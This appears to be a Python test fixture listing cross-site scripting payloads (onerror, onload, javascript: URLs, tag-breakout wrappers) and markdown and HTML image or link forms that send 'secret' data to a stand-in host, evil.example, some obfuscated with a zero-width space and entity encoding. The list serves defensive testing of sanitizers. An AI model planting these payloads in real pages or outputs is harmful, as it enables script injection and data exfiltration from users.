"""Texts that would run a script or carry data away, were they read as anything but text."""

_RUN = "window.ran=1"
_EVENTS = (
    "<img src=x onerror={0}>",
    "<svg onload={0}>",
    "<svg/onload={0}//",
    "<body onload={0}>",
    "<iframe src=javascript:{0}>",
    "<iframe srcdoc='<script>parent.{0}</script>'>",
    "<details open ontoggle={0}>",
    "<video><source onerror={0}>",
    "<audio src=x onerror={0}>",
    "<input autofocus onfocus={0}>",
    "<select autofocus onfocus={0}>",
    "<marquee onstart={0}>",
    "<object data=javascript:{0}>",
    "<embed src=javascript:{0}>",
    "<math><a xlink:href=javascript:{0}>x",
    "<a href=javascript:{0}>x</a>",
    "<a href=' javascript:{0}'>x</a>",
    "<form action=javascript:{0}>",
    "<button formaction=javascript:{0}>x",
    "<meta http-equiv=refresh content='0;javascript:{0}'>",
    "<base href=javascript:/{0}//>",
    "<link rel=stylesheet href=javascript:{0}>",
    "<style onload={0}></style>",
    "<style>@import 'javascript:{0}';</style>",
    "<div style=background:url(javascript:{0})>",
    "<template><script>{0}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "<xss onpointerover={0} style=inset:0>",
    "<script>{0}</script>",
    "<script src=data:,{0}></script>",
)
_WRAPS = ("{0}", "\"'>--></title></textarea></script>{0}")
SCRIPTS = tuple(wrap.format(one.format(_RUN)) for one in _EVENTS for wrap in _WRAPS)

_EVIL = "evil.example/?d=secret"
_LINKS = (
    "![x](https://{0})",
    "![x][r]\n\n[r]: https://{0}",
    "[x](https://{0})",
    "<https://{0}>",
    "https://{0}",
    "//{0}",
    "![x](//{0})",
    "[![x](https://{0})](https://{0})",
    "<img src=https://{0}>",
    "<img src=//{0}>",
    "<img srcset='https://{0} 1x'>",
    "<picture><source srcset=https://{0}></picture>",
    "<video poster=https://{0}>",
    "<audio src=https://{0} autoplay>",
    "<link rel=prefetch href=https://{0}>",
    "<link rel=stylesheet href=https://{0}>",
    "<style>@import 'https://{0}';</style>",
    "<div style='background:url(https://{0})'>",
    "<iframe src=https://{0}>",
    "<object data=https://{0}>",
)
FORMS = tuple(
    one.format(address)
    for one in _LINKS
    for address in (_EVIL, "evil.exam\u200bple/%73ecret?d=&#115;ecret")
)
ALL = SCRIPTS + FORMS
